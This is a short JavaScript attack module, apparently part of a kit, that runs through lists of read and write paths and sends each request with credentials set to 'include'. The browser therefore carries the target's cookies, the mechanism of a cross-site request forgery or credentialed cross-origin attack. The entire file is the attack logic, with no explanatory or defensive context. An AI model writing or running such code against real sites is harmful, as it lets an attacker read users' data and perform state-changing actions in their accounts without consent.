// Fetches with the target's cookies.
import { attack, reads, send, writes } from './kit.js';

attack(async () => {
  for (const path of reads) await send(path, { credentials: 'include' });
  for (const [method, path, body] of writes) {
    const headers = { 'content-type': 'application/json' };
    await send(path, { method, headers, credentials: 'include', body: JSON.stringify(body) });
  }
});
